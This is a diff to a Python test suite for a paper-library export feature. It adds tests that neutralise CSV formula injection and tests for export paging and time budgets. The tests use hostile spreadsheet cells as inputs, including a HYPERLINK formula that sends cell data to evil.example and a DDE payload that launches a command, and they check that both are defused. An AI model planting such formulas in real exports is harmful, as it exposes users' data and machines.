@@ -205,10 +205,18 @@ def test_empty_export_is_empty_or_header_only() -> None:
 # ----- CSV and JSON ---------------------------------------------------------------------------
 
 
-def read_csv(text: str) -> list[dict[str, str]]:
+def read_csv(text: str, *, unguarded: bool = False) -> list[dict[str, str]]:
+    """The rows; `unguarded`: with the `'` that keeps a spreadsheet from running a cell taken off again."""
     reader = csv.DictReader(io.StringIO(text, newline=""))
     assert tuple(reader.fieldnames or ()) == exports.CSV_COLUMNS
-    return list(reader)
+    rows = list(reader)
+    if unguarded:
+        rows = [{key: unguard(cell) for key, cell in row.items()} for row in rows]
+    return rows
+
+
+def unguard(cell: str) -> str:
+    return cell[1:] if cell.startswith("'") and cell[1:].startswith(exports.FORMULA_STARTS) else cell
 
 
 def split_list(cell: str) -> list[str]:
@@ -216,7 +224,7 @@ def split_list(cell: str) -> list[str]:
 
 
 async def test_csv_round_trips_commas_quotes_and_new_lines(awkward: list[StoredPaper]) -> None:
-    rows = read_csv(exports.to_csv(awkward))
+    rows = read_csv(exports.to_csv(awkward), unguarded=True)
     assert len(rows) == len(awkward)
     for paper, row in zip(awkward, rows):
         assert (row["arxiv_id"], row["title"], row["url"], row["summary"]) == (
@@ -228,6 +236,22 @@ async def test_csv_round_trips_commas_quotes_and_new_lines(awkward: list[StoredP
         assert split_list(row["huggingface_urls"]) == paper.huggingface_urls
         assert [dt.date.fromisoformat(d) for d in split_list(row["days"])] == paper.days
     assert "\n" in rows[-1]["summary"] and '"quotes"' in rows[-1]["summary"]
+
+
+@pytest.mark.parametrize("hostile", ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                                     "+1+1", "-2+3", "\t=1+1", "\r=1+1"])
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(hostile: str) -> None:
+    paper = StoredPaper(arxiv_id="2502.00001", title=hostile, url="https://arxiv.org/abs/2502.00001",
+                        authors=[hostile, "Ada"], summary=hostile, tags=[hostile], days=[dt.date(2025, 2, 3)])
+    (row,) = read_csv(exports.to_csv([paper]))
+    for column in ("title", "summary", "authors", "tags"):
+        assert row[column].startswith("'" + hostile), column
+    assert row["arxiv_id"] == "2502.00001" and row["days"] == "2025-02-03"
+
+
+def test_csv_cells_that_only_contain_formula_characters_are_left_alone() -> None:
+    assert exports.csv_cell("Plain = text, a + b - c @ home") == "Plain = text, a + b - c @ home"
+    assert exports.csv_cell("") == ""
 
 
 async def test_json_round_trips_exactly(awkward: list[StoredPaper]) -> None:
@@ -246,15 +270,42 @@ def test_formats_name_function_extension_and_mime_type() -> None:
     assert exports.file_slug("***") == "papers"
 
 
-async def test_matching_papers_pages_through_everything(library, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(exports, "PAGE", 7)
+async def test_matching_papers_gets_everything_in_search_order(library) -> None:
     robotics = next(t for t in await store.tag_counts(library) if t.name == "Robotics")
     found, count = await exports.matching_papers(library, tag="Robotics")
     assert count.total == robotics.count == len(found) == len({p.arxiv_id for p in found})
     some = await exports.matching_papers(library, query="model", limit=10)
     assert len(some.papers) == 10 and some.count.total > 10 and not some.complete
+    every = await exports.matching_papers(library, query="robot*")
+    assert every.complete and len(every.papers) == every.count.total > 30
+    paged = [hit.paper.arxiv_id for offset in range(0, every.count.total, 7)
+             for hit in (await store.search(library, "robot*", limit=7, offset=offset)).hits]
+    assert [paper.arxiv_id for paper in every.papers] == paged
     with pytest.raises(ValueError):
         await exports.matching_papers(library)
+
+
+async def test_an_export_walks_the_index_once_not_once_per_page(library, monkeypatch: pytest.MonkeyPatch) -> None:
+    import storage.search
+
+    walks = []
+    newest_matches = storage.search._newest_matches
+
+    async def counted(conn, match):
+        walks.append(match)
+        return await newest_matches(conn, match)
+
+    monkeypatch.setattr(storage.search, "_newest_matches", counted)
+    found = await exports.matching_papers(library, query="model", limit=1000)
+    assert len(found.papers) == 1000 and len(walks) == 1
+
+
+async def test_an_export_too_costly_for_its_budget_is_refused(library, monkeypatch: pytest.MonkeyPatch) -> None:
+    from storage.search_query import QueryTooBroad
+
+    monkeypatch.setattr(exports, "EXPORT_BUDGET_SECONDS", 0)
+    with pytest.raises(QueryTooBroad, match="add a word"):
+        await exports.matching_papers(library, query="model", limit=1000)
 
 
 # ----- paperbot export ------------------------------------------------------------------------
